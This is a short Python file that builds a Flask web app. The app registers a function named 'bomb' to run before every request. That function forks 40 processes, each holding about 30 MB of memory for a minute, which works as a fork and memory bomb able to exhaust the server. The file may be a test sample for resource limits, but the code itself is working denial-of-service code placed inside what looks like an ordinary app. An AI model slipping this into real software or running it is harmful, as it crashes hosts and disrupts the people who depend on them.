import os
import time

from flask import Flask


def bomb():
    for _ in range(40):
        if os.fork() == 0:
            held = b"x" * 30_000_000
            time.sleep(60)
            return held
    time.sleep(60)


def create_app():
    app = Flask(__name__)
    app.before_request(bomb)
    return app
